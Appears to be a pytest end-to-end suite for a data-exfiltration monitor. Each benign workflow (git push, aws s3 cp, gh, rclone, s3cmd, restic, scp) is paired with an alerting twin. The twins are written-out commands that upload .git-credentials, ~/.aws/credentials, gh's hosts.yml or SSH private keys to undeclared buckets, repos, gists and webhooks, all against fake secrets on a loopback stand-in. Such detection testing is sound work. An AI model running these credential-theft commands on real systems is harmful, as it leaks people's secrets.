"""Everyday developer and operations workflows with the real clients (git, aws, gh, rclone,
s3cmd, restic, scp, a provisioner rewriting /etc/hosts) stay silent, and each one's attack twin (the same tool sending the secret itself,
or to a destination the rules do not declare) alerts with the right sub-technique (issue 13).

The clients reach real service names on a loopback address of their own (E2E_STORAGE_ADDRESS,
port 443, so no client needs a port option), through a private /etc/hosts view; the storage
stand-in (tests/e2e/tools/storage_standin.py) speaks enough S3, git smart HTTP and GitHub REST
for each client to finish its work. The monitor runs with the built-in rules plus an
`own_storage` declaration, as an organisation would write it. Every test also checks that no
token of the fake secrets reaches the monitor's output."""

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from harness import Monitor, alert_threshold, get, make_certificate, private_hosts, run_scenario
from harness import is_alert, paths, replay, summarize
from harness.records import as_list, kind
from harness.config import HTTPS_PORT
from harness.services import BackgroundProcess, BackgroundService, read_json_lines, wait_until

STORAGE_ADDRESS = os.environ.get("E2E_STORAGE_ADDRESS", "127.0.0.27")
NAMES = (
    "github.com", "api.github.com", "s3.amazonaws.com", "own-backups.s3.amazonaws.com",
    "other-bucket.s3.amazonaws.com", "own-backups.s3.us-east-1.amazonaws.com",
    "other-bucket.s3.us-east-1.amazonaws.com", "s3.dualstack.us-east-1.amazonaws.com",
    "backup.corp.example", "hooks.slack.com", "discord.com", "api.telegram.org", "webhook.site", "ntfy.sh",
    "api.pushover.net", "myapp.ngrok-free.app", "api.pinata.cloud",
)
FLOW_TIMEOUT_S = 20.0
ALERT_TIMEOUT_S = 20.0
COMMAND_TIMEOUT_S = 120

OWN_STORAGE = """
own_storage:
  tools: [aws, s3cmd, restic]
  destinations:
    - amazonaws.com/own-backups        # the bucket is the organisation's on any S3 endpoint
    - {domain: s3.amazonaws.com, remote: own, path: own-backups/, tools: [rclone]}
    - {domain: backup.corp.example, path: /tmp/, tools: [rsync]}  # pytest's directories
"""

# Fake secrets this file writes (on top of FakeHome's): random-looking, never real.
AWS_KEY_ID = "AKIAE2EEVERYDAY7QX4Z"
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYe2eEveryDay"
GH_TOKEN = "gho_e2eEveryday0123456789abcdefABCDEF"
GIT_TOKEN = "ghp_e2eGitStore0123456789abcdefABCDEF"
RCLONE_SECRET = "rcloneE2eSecretKey0123456789abcdef"
S3CMD_SECRET = "s3cmdE2eSecretKey0123456789abcdefgh"
RESTIC_PASSWORD = "resticE2ePassword0123456789"
# An application's .env (the dotenv fixture): each webhook URL's token, the bot token, the
# database password, the API and service tokens.
SLACK_HOOK_SECRET = "e2eSlackHookSecret0123456789"
DISCORD_HOOK_TOKEN = "e2eDiscordHookToken0123456789abcdef"
TELEGRAM_BOT_TOKEN = "123456789:AAE2eTelegramBotToken0123456789abcd"
DB_PASSWORD = "e2eDbPassw0rd1234567890"
API_TOKEN = "e2eApiToken0123456789abcdefABCDEF"
NTFY_TOKEN = "tk_e2entfytoken0123456789abcdefgh"
PUSHOVER_TOKEN = "azGDORePK8gMaC0QOYAMyEEuzJnyUi"
PUSHOVER_USER = "uQiRzpo4DXghDmr9QzzfQu27cmVRsG"
PINATA_API_KEY = "e2ePinataKey0123456789ab"
PINATA_SECRET_API_KEY = "e2ePinataSecret0123456789abcdef0123456789abcdef"
DOTENV_SECRETS = (SLACK_HOOK_SECRET, DISCORD_HOOK_TOKEN, TELEGRAM_BOT_TOKEN, TELEGRAM_BOT_TOKEN.split(":")[1],
                  DB_PASSWORD, API_TOKEN, NTFY_TOKEN, PUSHOVER_TOKEN, PUSHOVER_USER, PINATA_API_KEY,
                  PINATA_SECRET_API_KEY)
SECRETS = (AWS_KEY_ID, AWS_SECRET, GH_TOKEN, GIT_TOKEN, RCLONE_SECRET, S3CMD_SECRET, RESTIC_PASSWORD) + DOTENV_SECRETS


class StorageStandIn(BackgroundService):
    def __init__(self, workdir):
        self.workdir = Path(workdir)
        self.log_path = self.workdir / "storage-requests.ndjson"
        self.git_root = self.workdir / "git"
        self.cert = None

    def start(self):
        self.cert, key = make_certificate(self.workdir, NAMES)
        for repo in ("our-org/app.git", "evil-org/loot.git"):
            path = self.git_root / repo
            subprocess.run(["git", "init", "-q", "--bare", str(path)], check=True)
            subprocess.run(["git", "-C", str(path), "config", "http.receivepack", "true"], check=True)
        argv = [paths.PYTHON, paths.TOOLS_DIR / "storage_standin.py", "--listen", f"{STORAGE_ADDRESS}:443",
                "--cert", self.cert, "--key", key, "--log", self.log_path, "--git-root", self.git_root]
        self._process = BackgroundProcess(argv, self.workdir, "storage").start()
        return self

    def requests(self):
        return read_json_lines(self.log_path)


@pytest.fixture(scope="module")
def storage(tmp_path_factory):
    service = StorageStandIn(tmp_path_factory.mktemp("storage")).start()
    yield service
    service.stop()


class SshServer(BackgroundService):
    """sshd on STORAGE_ADDRESS:22 accepting one public key for root; its own config, host key and
    pid file, nothing of the host's sshd."""

    def __init__(self, workdir):
        self.workdir = Path(workdir)
        self.authorized = self.workdir / "authorized_keys"

    def start(self):
        host_key = self.workdir / "host_ed25519"
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(host_key)], check=True)
        self.authorized.write_text("")
        os.chmod(self.authorized, 0o600)
        config = self.workdir / "sshd_config"
        config.write_text(f"ListenAddress {STORAGE_ADDRESS}:22\nHostKey {host_key}\n"
                          f"AuthorizedKeysFile {self.authorized}\nPidFile {self.workdir}/sshd.pid\n"
                          "PermitRootLogin prohibit-password\nPasswordAuthentication no\n"
                          "KbdInteractiveAuthentication no\nUsePAM no\nStrictModes no\n"
                          "Subsystem sftp internal-sftp\n")
        Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)
        # sshd prints nothing when ready: a wrapper that waits for the port and says "ready".
        wrapper = ("import socket, subprocess, sys, time\n"
                   f"p = subprocess.Popen(['/usr/sbin/sshd', '-D', '-e', '-f', '{config}'])\n"
                   "for _ in range(100):\n"
                   "    try:\n"
                   f"        socket.create_connection(('{STORAGE_ADDRESS}', 22), 0.2).close(); break\n"
                   "    except OSError: time.sleep(0.1)\n"
                   "print('ready', flush=True)\n"
                   "import signal; signal.signal(signal.SIGTERM, lambda *a: (p.terminate(), sys.exit(0)))\n"
                   "sys.exit(p.wait())\n")
        self._process = BackgroundProcess([paths.PYTHON, "-c", wrapper], self.workdir, "sshd").start()
        return self


@pytest.fixture(scope="module")
def sshd(tmp_path_factory):
    server = SshServer(tmp_path_factory.mktemp("sshd")).start()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def rules_file(tmp_path_factory):
    path = tmp_path_factory.mktemp("rules") / "rules.yaml"
    path.write_text((paths.REPO / "rules" / "default.yaml").read_text() + OWN_STORAGE)
    os.chmod(path, 0o644)
    return path


@pytest.fixture
def home(fake_home, storage):
    """FakeHome plus each client's own credentials and a few documents."""
    h = fake_home.path

    def write(relative, text, mode=0o600):
        path = h / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        os.chmod(path, mode)
        fake_home.files[relative] = path

    write(".aws/credentials", f"[default]\naws_access_key_id = {AWS_KEY_ID}\n"
                              f"aws_secret_access_key = {AWS_SECRET}\n")
    write(".aws/config", "[default]\nregion = us-east-1\n", 0o644)
    write(".config/gh/hosts.yml", f"github.com:\n    oauth_token: {GH_TOKEN}\n    user: ci-bot\n"
                                  "    git_protocol: https\n")
    write(".git-credentials", f"https://ci-bot:{GIT_TOKEN}@github.com\n")
    remote = ("type = s3\nprovider = AWS\naccess_key_id = {}\nsecret_access_key = {}\n"
              "region = us-east-1\nendpoint = https://s3.amazonaws.com\n")
    write(".config/rclone/rclone.conf", "[own]\n" + remote.format(AWS_KEY_ID, RCLONE_SECRET) +
          "\n[drop]\n" + remote.format(AWS_KEY_ID, RCLONE_SECRET))
    write(".s3cfg", f"[default]\naccess_key = {AWS_KEY_ID}\nsecret_key = {S3CMD_SECRET}\n"
                    "host_base = s3.amazonaws.com\nhost_bucket = s3.amazonaws.com\nuse_https = True\n"
                    f"ca_certs_file = {storage.cert}\ncheck_ssl_certificate = True\n")
    for name, size in (("Documents/q3-report.pdf", 120_000), ("Documents/notes/plan.odt", 40_000)):
        write(name, os.urandom(size), 0o644)
    write("build/artifact.tar", os.urandom(200_000), 0o644)
    # A real key pair for ssh (FakeHome's key is random bytes in the right format).
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "deploy", "-f", str(h / ".ssh/id_deploy")],
                   check=True)
    fake_home.files[".ssh/id_deploy"] = h / ".ssh/id_deploy"
    return fake_home


@pytest.fixture
def monitor(tmp_path, home, storage, rules_file):
    with Monitor(tmp_path / "monitor", extra_args=["--rules", str(rules_file)]) as running:
        yield running


def run(command, home, storage, tmp_path, **env):
    view = private_hosts({name: STORAGE_ADDRESS for name in NAMES}, tmp_path / "view")
    environment = home.env(SSL_CERT_FILE=str(storage.cert), GIT_SSL_CAINFO=str(storage.cert), **env)
    done = run_scenario(command, environment, view=view, timeout=COMMAND_TIMEOUT_S)
    assert done.returncode == 0, f"workflow failed ({done.returncode}): {command}\n{done.stderr[-3000:]}"
    return done


def ours(record):
    return get(record, "destination.ip") == STORAGE_ADDRESS


def wait_for_flow(monitor, storage, domain):
    def flow(record):
        return (get(record, "event.action") == "flow-summary" and ours(record)
                and get(record, "process.pid") != storage.pid
                and str(get(record, "destination.domain", "")).endswith(domain))
    return monitor.wait_for(flow, FLOW_TIMEOUT_S, f"a flow-summary to {domain} at {STORAGE_ADDRESS}")


def secret_words(home):
    words = {s.encode() for s in SECRETS}
    for relative, path in home.files.items():
        if not relative.endswith(".pub") and path.stat().st_size < 8192:
            words |= set(re.findall(rb"[A-Za-z0-9+/_=-]{16,}", path.read_bytes()))
    # Paths (ca_certs_file = /tmp/...) and key names (aws_access_key_id) are not secrets.
    return {w for w in words if not w.startswith(b"/") and re.search(rb"[0-9]", w)}


def assert_no_secrets(monitor, home):
    output = monitor.output.read_bytes()
    leaked = sorted(w.decode() for w in secret_words(home) if w in output)
    assert not leaked, f"secret file contents in the output: {leaked[:5]}"


def our_alerts(records):
    return [r for r in records if kind(r) == "alert" and ours(r)]


def assert_silent_here(monitor, home):
    monitor.stop()
    found = our_alerts(monitor.records())
    if found:
        pytest.fail(f"expected no alert for the workflow, got {len(found)}:\n{summarize(found)}\n"
                    f"reasons: {[get(a, 'event.reason') for a in found]}", pytrace=False)
    assert_no_secrets(monitor, home)


def assert_alert_here(monitor, home, subtechnique):
    threshold = alert_threshold()

    def matches(record):
        return (kind(record) == "alert" and ours(record) and get(record, "event.risk_score", 0) >= threshold
                and subtechnique in [str(v) for v in as_list(get(record, "threat.technique.subtechnique.id"))])
    monitor.poll_for(matches, ALERT_TIMEOUT_S)
    monitor.stop()
    found = [r for r in monitor.records() if matches(r)]
    if not found:
        pytest.fail(f"no {subtechnique} alert at or above {threshold}; alerts:\n"
                    f"{summarize(our_alerts(monitor.records())) or '(none)'}\n"
                    f"recent records:\n{summarize(monitor.records(), 40)}", pytrace=False)
    assert_no_secrets(monitor, home)
    return found


def uploaded(storage, method, path_part, since=0):
    """The stand-in logged such a request with a body (after its first `since` requests)."""
    return wait_until(lambda: [r for r in storage.requests()[since:]
                               if r["method"] == method and path_part in r["path"] and r["body_bytes"] > 0],
                      10, f"a {method} of *{path_part}* at the storage stand-in")


# --- git push with the store credential helper ------------------------------------------------

GIT_REPO = ("rm -rf $HOME/app && git init -q $HOME/app && cd $HOME/app && "
            "git config user.email ci@example.org && git config user.name ci && "
            "git config credential.helper store && ")


def test_git_push_with_store_helper_is_silent(monitor, home, storage, tmp_path):
    run(GIT_REPO + "cp $HOME/build/artifact.tar . && git add artifact.tar && git commit -qm release && "
        "git push -q https://github.com/our-org/app.git HEAD:main", home, storage, tmp_path)
    uploaded(storage, "POST", "our-org/app.git/git-receive-pack")
    wait_for_flow(monitor, storage, "github.com")
    assert_silent_here(monitor, home)


def test_git_push_of_the_credentials_file_alerts(monitor, home, storage, tmp_path):
    run(GIT_REPO + "cat $HOME/.git-credentials > creds.txt && git add creds.txt && git commit -qm x && "
        "git push -q https://github.com/evil-org/loot.git HEAD:main", home, storage, tmp_path)
    uploaded(storage, "POST", "evil-org/loot.git/git-receive-pack")
    assert_alert_here(monitor, home, "T1567.001")


# --- aws s3 cp with exported keys --------------------------------------------------------------

AWS_KEYS = ("export AWS_ACCESS_KEY_ID=$(awk '/aws_access_key_id/{print $3}' $HOME/.aws/credentials) && "
            "export AWS_SECRET_ACCESS_KEY=$(awk '/aws_secret_access_key/{print $3}' $HOME/.aws/credentials) && ")


def test_aws_s3_cp_with_exported_keys_to_the_declared_bucket_is_silent(monitor, home, storage, tmp_path):
    run(AWS_KEYS + "/usr/bin/aws s3 cp $HOME/build/artifact.tar s3://own-backups/ci/artifact.tar",
        home, storage, tmp_path, AWS_CA_BUNDLE=str(storage.cert))
    uploaded(storage, "PUT", "ci/artifact.tar")
    wait_for_flow(monitor, storage, "amazonaws.com")
    assert_silent_here(monitor, home)


def test_aws_s3_cp_of_the_credentials_to_another_bucket_alerts(monitor, home, storage, tmp_path):
    run("/usr/bin/aws s3 cp $HOME/.aws/credentials s3://other-bucket/c.txt", home, storage, tmp_path,
        AWS_CA_BUNDLE=str(storage.cert))
    uploaded(storage, "PUT", "c.txt")
    assert_alert_here(monitor, home, "T1567.002")


def test_tar_of_home_streamed_to_the_declared_bucket_is_silent(monitor, home, storage, tmp_path):
    run("tar czf - -C $HOME --exclude=build . | /usr/bin/aws s3 cp - s3://own-backups/nightly/home.tgz",
        home, storage, tmp_path, AWS_CA_BUNDLE=str(storage.cert))
    uploaded(storage, "PUT", "nightly/home.tgz")
    wait_for_flow(monitor, storage, "amazonaws.com")
    assert_silent_here(monitor, home)


def test_tar_of_home_streamed_to_another_bucket_alerts(monitor, home, storage, tmp_path):
    run("tar czf - -C $HOME --exclude=build . | /usr/bin/aws s3 cp - s3://other-bucket/home.tgz",
        home, storage, tmp_path, AWS_CA_BUNDLE=str(storage.cert))
    uploaded(storage, "PUT", "/home.tgz")
    assert_alert_here(monitor, home, "T1567.002")


# --- gh with its hosts.yml token ----------------------------------------------------------------

def test_gh_posting_a_ci_status_is_silent(monitor, home, storage, tmp_path):
    run("gh api repos/our-org/app/statuses/0123abcd -f state=success -f context=ci >/dev/null",
        home, storage, tmp_path)
    uploaded(storage, "POST", "/statuses/0123abcd")
    wait_for_flow(monitor, storage, "api.github.com")
    assert_silent_here(monitor, home)


def test_gh_gist_of_hosts_yml_alerts(monitor, home, storage, tmp_path):
    run("gh gist create $HOME/.config/gh/hosts.yml >/dev/null 2>&1", home, storage, tmp_path)
    uploaded(storage, "POST", "/gists")
    assert_alert_here(monitor, home, "T1567.001")


# --- a CI status post with the token from hosts.yml (use versus leak by content) ------------------
# The token is read by awk, handed to the client in a variable and sent in an Authorization
# header: use. The twins send the token or the file itself in the body: a leak, told by the
# content-match signal (fingerprints of hosts.yml found in the plaintext, seen through the
# uprobes on libssl's SSL_write/SSL_write_ex and gnutls's gnutls_record_send).

TOKEN = "TOKEN=$(awk '/oauth_token/{print $2}' $HOME/.config/gh/hosts.yml); "
STATUS_URL = "https://api.github.com/repos/our-org/app/statuses/0123abcd"
CURL = "curl -sS -f --cacert $SSL_CERT_FILE -o /dev/null "
STATUS_BODY = '{"state":"success","context":"ci","description":"build passed"}'


def alert_key(record):
    return (get(record, "event.risk_score"), get(record, "event.reason"))


def signal_names(alert):
    return [s.get("name") for s in as_list(get(alert, "exfilwatch.signals", []))]


def content_scans(monitor):
    return [r for r in monitor.records() if get(r, "event.action") == "content-scan"]


def assert_content_match(found, encoding):
    evidence = [s.get("evidence", "") for a in found for s in as_list(get(a, "exfilwatch.signals", []))
                if s.get("name") == "content-match"]
    assert evidence, f"no content-match signal: {[signal_names(a) for a in found]}"
    assert any(e.startswith("content of ~/.config/gh/hosts.yml") and f"({encoding} " in e for e in evidence), evidence


def test_curl_posting_a_ci_status_with_the_token_in_a_header_is_silent(monitor, home, storage, tmp_path):
    run(TOKEN + CURL + f"""-H "Authorization: token $TOKEN" -H 'Content-Type: application/json' """
        f"""-d '{STATUS_BODY}' {STATUS_URL}""", home, storage, tmp_path)
    uploaded(storage, "POST", "/statuses/0123abcd")
    wait_for_flow(monitor, storage, "api.github.com")
    assert_silent_here(monitor, home)
    # The plaintext was seen (the token in Authorization), and nothing of it was written out.
    scans = [s for s in content_scans(monitor) if get(s, "exfilwatch.content.source") == "openssl"]
    assert any("authorization" in as_list(get(s, "exfilwatch.content.auth_headers", [])) for s in scans), scans


PYTHON_URLLIB = """import json, os, urllib.request
request = urllib.request.Request("%s", data=json.dumps({"state": "success", "context": "ci"}).encode(),
                                 headers={"Authorization": "token " + os.environ["TOKEN"],
                                          "Content-Type": "application/json"}, method="POST")
urllib.request.urlopen(request, timeout=20).read()
""" % STATUS_URL

PYTHON_REQUESTS = """import os, requests
reply = requests.post("%s", json={"state": "success", "context": "ci"}, timeout=20,
                      headers={"Authorization": "token " + os.environ["TOKEN"]}, verify=os.environ["SSL_CERT_FILE"])
reply.raise_for_status()
""" % STATUS_URL


@pytest.mark.parametrize("client", ["urllib", "requests"])
def test_python_posting_a_ci_status_with_the_token_in_a_header_is_silent(client, monitor, home, storage, tmp_path):
    script = tmp_path / f"status_{client}.py"
    script.write_text(PYTHON_URLLIB if client == "urllib" else PYTHON_REQUESTS)
    run(TOKEN + f"export TOKEN; {paths.PYTHON} {script}", home, storage, tmp_path)
    uploaded(storage, "POST", "/statuses/0123abcd")
    wait_for_flow(monitor, storage, "api.github.com")
    assert_silent_here(monitor, home)


@pytest.mark.parametrize("body,encoding", [
    ("\"{\\\"state\\\":\\\"success\\\",\\\"description\\\":\\\"$TOKEN\\\"}\"", "raw"),
    ("\"$(base64 -w0 $HOME/.config/gh/hosts.yml)\"", "base64"),
], ids=["token-raw", "hosts-yml-base64"])
def test_curl_sending_the_token_in_the_body_alerts(body, encoding, monitor, home, storage, tmp_path):
    run(TOKEN + CURL + f"""-H "Authorization: token $TOKEN" -d {body} {STATUS_URL}""", home, storage, tmp_path)
    uploaded(storage, "POST", "/statuses/0123abcd")
    found = assert_alert_here(monitor, home, "T1567.001")
    assert_content_match(found, encoding)


def test_wget_post_file_of_hosts_yml_alerts(monitor, home, storage, tmp_path):
    # Debian's wget speaks TLS through gnutls (gnutls_record_send).
    run("wget -q -O /dev/null --ca-certificate=$SSL_CERT_FILE "
        "--post-file=$HOME/.config/gh/hosts.yml https://api.github.com/gists", home, storage, tmp_path)
    uploaded(storage, "POST", "/gists")
    found = assert_alert_here(monitor, home, "T1567.001")
    assert_content_match(found, "raw")
    assert any(get(s, "exfilwatch.content.source") == "gnutls" for s in content_scans(monitor))


# A signing key (the AWS secret access key, a private key) authenticates by a signature made with
# it; a client that authenticates never sends its bytes. In an Authorization header it is the key
# leaving, not use: the twins are the hosts.yml token in the same header (above) and aws s3 cp,
# which signs with the exported key (SigV4: only the key id travels).
SIGNING_KEY = "SECRET=$(awk '/aws_secret_access_key/{print $3}' $HOME/.aws/credentials); "


def assert_signing_key_match(found):
    evidence = [str(s.get("evidence", "")) for a in found for s in as_list(get(a, "exfilwatch.signals", []))
                if s.get("name") == "content-match"]
    assert any(e.startswith("content of ~/.aws/credentials") and "a signing key" in e for e in evidence), evidence


def test_curl_with_the_aws_secret_key_in_an_authorization_header_alerts(monitor, home, storage, tmp_path, rules_file):
    run(SIGNING_KEY + CURL + f"""-H "Authorization: Bearer $SECRET" -H 'Content-Type: application/json' """
        f"""-d '{STATUS_BODY}' {STATUS_URL}""", home, storage, tmp_path)
    uploaded(storage, "POST", "/statuses/0123abcd")
    found = assert_alert_here(monitor, home, "T1567.001")
    assert_signing_key_match(found)
    scans = [m for s in content_scans(monitor) for m in as_list(get(s, "exfilwatch.content.matches", []))]
    assert any(m.get("location") == "auth-header" and m.get("secret") == "signing-key" for m in scans), scans
    # What the scan found is telemetry: a replay (no fingerprints, no file to read) decides the same.
    returncode, records, stderr = replay(monitor.output, tmp_path / "replayed.ndjson",
                                         extra_args=["--rules", str(rules_file)])
    assert returncode == 0, stderr
    assert sorted(map(alert_key, filter(is_alert, records))) == sorted(map(alert_key, filter(is_alert, monitor.records())))


# --- a Go client's command line (gh: its own TLS, no library write for the uprobes to see) --------
# Where the plaintext cannot be seen, a secret the client's command line carries says which it is:
# as an authentication header's value it is use; as a field of the request it sends, a leak
# (content-match "in the argument"), however small the secret and whatever the destination.

def test_gh_api_with_the_aws_key_in_an_issue_body_alerts(monitor, home, storage, tmp_path, rules_file):
    run('gh api repos/our-org/app/issues -f title=bug -f "body=$(cat $HOME/.aws/credentials)" >/dev/null',
        home, storage, tmp_path)
    uploaded(storage, "POST", "/repos/our-org/app/issues")
    found = assert_alert_here(monitor, home, "T1567.001")
    evidence = [str(s.get("evidence", "")) for a in found for s in as_list(get(a, "exfilwatch.signals", []))
                if s.get("name") == "content-match"]
    assert any("in the argument -f" in e for e in evidence), evidence
    # The command line's scan is telemetry (no byte of the key in it): a replay, which has no
    # fingerprints, decides the same alerts from it.
    scans = [r for r in monitor.records() if get(r, "event.action") == "content-scan"
             and get(r, "exfilwatch.content.source") == "argv"]
    assert any(m.get("location") == "argument" for r in scans
               for m in as_list(get(r, "exfilwatch.content.matches", []))), scans
    returncode, records, stderr = replay(monitor.output, tmp_path / "replayed.ndjson",
                                         extra_args=["--rules", str(rules_file)])
    assert returncode == 0, stderr
    assert sorted(map(alert_key, filter(is_alert, records))) == sorted(map(alert_key, filter(is_alert, monitor.records())))


def test_curl_with_the_hosts_yml_token_in_an_authorization_header_to_a_webhook_alerts(monitor, home, storage,
                                                                                       tmp_path, rules_file):
    # hosts.yml names github.com for its token: in an Authorization header to another site it is
    # not authenticating to anything it belongs to. Twin, silent: the same header to api.github.com
    # (test_curl_posting_a_ci_status_with_the_token_in_a_header_is_silent).
    # (No -f: the stand-in has no webhook to answer with; it logs the request all the same.)
    run(TOKEN + CURL.replace(" -f ", " ") + f"""-H "Authorization: token $TOKEN" -H 'Content-Type: application/json' """
        f"""-d '{{"text":"deployed"}}' https://hooks.slack.com/services/T0/B0/X0""", home, storage, tmp_path)
    uploaded(storage, "POST", "/services/T0/B0/X0")
    found = assert_alert_here(monitor, home, "T1567.004")
    evidence = [str(s.get("evidence", "")) for a in found for s in as_list(get(a, "exfilwatch.signals", []))
                if s.get("name") == "content-match"]
    assert any(e.startswith("content of ~/.config/gh/hosts.yml") and "to a site its file does not name it for" in e
               for e in evidence), evidence
    returncode, records, stderr = replay(monitor.output, tmp_path / "replayed.ndjson",
                                         extra_args=["--rules", str(rules_file)])
    assert returncode == 0, stderr
    assert sorted(map(alert_key, filter(is_alert, records))) == sorted(map(alert_key, filter(is_alert, monitor.records())))


def test_gh_api_with_the_aws_secret_key_in_an_authorization_header_alerts(monitor, home, storage, tmp_path):
    run(SIGNING_KEY + 'gh api -H "Authorization: token $SECRET" repos/our-org/app/statuses/0123abcd '
        "-f state=success -f context=ci >/dev/null", home, storage, tmp_path)
    uploaded(storage, "POST", "/statuses/0123abcd")
    assert_signing_key_match(assert_alert_here(monitor, home, "T1567.001"))


def test_gh_api_with_the_hosts_yml_token_in_an_authorization_header_is_silent(monitor, home, storage, tmp_path):
    run(TOKEN + 'gh api -H "Authorization: token $TOKEN" repos/our-org/app/statuses/0123abcd '
        "-f state=success -f context=ci >/dev/null", home, storage, tmp_path)
    uploaded(storage, "POST", "/statuses/0123abcd")
    wait_for_flow(monitor, storage, "api.github.com")
    assert_silent_here(monitor, home)


def test_gh_api_with_the_hosts_yml_token_in_an_authorization_header_to_a_status_url_is_silent(monitor, home, storage,
                                                                                              tmp_path):
    # gh does its own TLS (Go): its command line says where the token goes, here the site its
    # file names it for.
    run(TOKEN + f'gh api -H "Authorization: token $TOKEN" {STATUS_URL} -f state=success -f context=ci >/dev/null',
        home, storage, tmp_path)
    uploaded(storage, "POST", "/statuses/0123abcd")
    wait_for_flow(monitor, storage, "api.github.com")
    assert_silent_here(monitor, home)


def test_gh_api_with_the_hosts_yml_token_in_an_authorization_header_to_a_webhook_alerts(monitor, home, storage,
                                                                                       tmp_path, rules_file):
    # The same client handing the token over for a request to a webhook: hosts.yml names
    # github.com for it, so it authenticates to nothing there; the command line (gh's TLS is not
    # seen) is the evidence. (The stand-in answers the webhook 404, having logged it.)
    run(TOKEN + 'gh api -H "Authorization: token $TOKEN" https://hooks.slack.com/services/T0/B0/X2 '
        "-f text=deployed >/dev/null 2>&1 || true", home, storage, tmp_path)
    uploaded(storage, "POST", "/services/T0/B0/X2")
    found = assert_alert_here(monitor, home, "T1567.004")
    evidence = [str(s.get("evidence", "")) for a in found for s in as_list(get(a, "exfilwatch.signals", []))
                if s.get("name") == "content-match"]
    assert any(e.startswith("content of ~/.config/gh/hosts.yml") and "in the argument authorization, to a site its "
               "file does not name it for" in e for e in evidence), evidence
    returncode, records, stderr = replay(monitor.output, tmp_path / "replayed.ndjson",
                                         extra_args=["--rules", str(rules_file)])
    assert returncode == 0, stderr
    assert sorted(map(alert_key, filter(is_alert, records))) == sorted(map(alert_key, filter(is_alert, monitor.records())))


# --- rclone -----------------------------------------------------------------------------------

RCLONE = "rclone --ca-cert $SSL_CERT_FILE "


def test_rclone_sync_documents_to_the_declared_remote_is_silent(monitor, home, storage, tmp_path):
    run(RCLONE + "sync $HOME/Documents own:own-backups/docs --config $HOME/.config/rclone/rclone.conf",
        home, storage, tmp_path)
    uploaded(storage, "PUT", "docs/q3-report.pdf")
    wait_for_flow(monitor, storage, "s3.amazonaws.com")
    assert_silent_here(monitor, home)


def test_rclone_copy_of_ssh_keys_to_an_undeclared_remote_alerts(monitor, home, storage, tmp_path):
    run(RCLONE + "copy $HOME/.ssh drop:other-bucket/k --config $HOME/.config/rclone/rclone.conf",
        home, storage, tmp_path)
    uploaded(storage, "PUT", "k/id_ed25519")
    assert_alert_here(monitor, home, "T1567.002")


# --- s3cmd ------------------------------------------------------------------------------------

def test_s3cmd_sync_documents_to_the_declared_bucket_is_silent(monitor, home, storage, tmp_path):
    run("s3cmd -q -c $HOME/.s3cfg sync $HOME/Documents/ s3://own-backups/docs/", home, storage, tmp_path)
    uploaded(storage, "PUT", "docs/q3-report.pdf")
    wait_for_flow(monitor, storage, "s3.amazonaws.com")
    assert_silent_here(monitor, home)


def test_s3cmd_put_of_the_aws_credentials_to_another_bucket_alerts(monitor, home, storage, tmp_path):
    run("s3cmd -q -c $HOME/.s3cfg put $HOME/.aws/credentials s3://other-bucket/c.txt", home, storage, tmp_path)
    uploaded(storage, "PUT", "other-bucket/c.txt")
    assert_alert_here(monitor, home, "T1567.002")


# --- restic -----------------------------------------------------------------------------------

RESTIC = ("restic -q --cacert $SSL_CERT_FILE -o s3.bucket-lookup=path "
          "-r s3:https://s3.amazonaws.com/own-backups/restic ")


def test_restic_backup_to_the_declared_repository_is_silent(monitor, home, storage, tmp_path):
    run(RESTIC + "init >/dev/null && " + RESTIC + "backup $HOME/Documents $HOME/.ssh >/dev/null",
        home, storage, tmp_path, RESTIC_PASSWORD=RESTIC_PASSWORD, AWS_ACCESS_KEY_ID=AWS_KEY_ID,
        AWS_SECRET_ACCESS_KEY=AWS_SECRET)
    uploaded(storage, "PUT", "restic/snapshots/")
    wait_for_flow(monitor, storage, "amazonaws.com")
    assert_silent_here(monitor, home)


def test_restic_backup_of_ssh_keys_to_another_repository_alerts(monitor, home, storage, tmp_path):
    other = RESTIC.replace("own-backups/restic", "other-bucket/r")
    run(other + "init >/dev/null && " + other + "backup $HOME/.ssh >/dev/null",
        home, storage, tmp_path, RESTIC_PASSWORD=RESTIC_PASSWORD, AWS_ACCESS_KEY_ID=AWS_KEY_ID,
        AWS_SECRET_ACCESS_KEY=AWS_SECRET)
    uploaded(storage, "PUT", "other-bucket/r/snapshots/")
    assert_alert_here(monitor, home, "T1567.002")


# --- scp -i KEY, and scp through ssh-agent ------------------------------------------------------
# With the agent, ssh-add reads the key and hands it to the agent over its UNIX socket; ssh then
# signs through the agent, never reading the key: the agent's socket carries signatures, not the
# key, to whoever asks.

SSH_OPTIONS = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes"
AGENT = ("eval $(ssh-agent -s) > /dev/null && trap 'ssh-agent -k > /dev/null' EXIT && "
         "ssh-add -q $HOME/.ssh/id_deploy && ")
SCP = {"identity": f"scp -q -i $HOME/.ssh/id_deploy {SSH_OPTIONS} ",
       "agent": AGENT + f"scp -q {SSH_OPTIONS} "}


def authorize(home, sshd):
    sshd.authorized.write_text((home.path / ".ssh" / "id_deploy.pub").read_text())


@pytest.mark.parametrize("via", SCP)
def test_scp_with_a_deploy_key_is_silent(monitor, home, storage, sshd, tmp_path, via):
    authorize(home, sshd)
    target = tmp_path / "scp-artifact.tar"
    run(SCP[via] + f"$HOME/build/artifact.tar root@github.com:{target}", home, storage, tmp_path)
    assert target.stat().st_size == 200_000
    wait_for_flow(monitor, storage, "github.com")
    assert_silent_here(monitor, home)


@pytest.mark.parametrize("via", SCP)
def test_scp_of_the_key_itself_alerts(monitor, home, storage, sshd, tmp_path, via):
    authorize(home, sshd)
    target = tmp_path / "scp-key"
    run(SCP[via] + f"$HOME/.ssh/id_ed25519 root@github.com:{target}", home, storage, tmp_path)
    assert target.exists()
    assert_alert_here(monitor, home, "T1567.001")


# --- rsync over ssh: a nightly backup to the organisation's own host ---------------------------
# Documents are sensitive: to a host nobody declared, rsync's ssh uploading them alerts (as any
# undeclared destination does); to the declared backup host it is the job it looks like.

RSYNC = f'rsync -a -e "ssh -i $HOME/.ssh/id_deploy {SSH_OPTIONS}" '


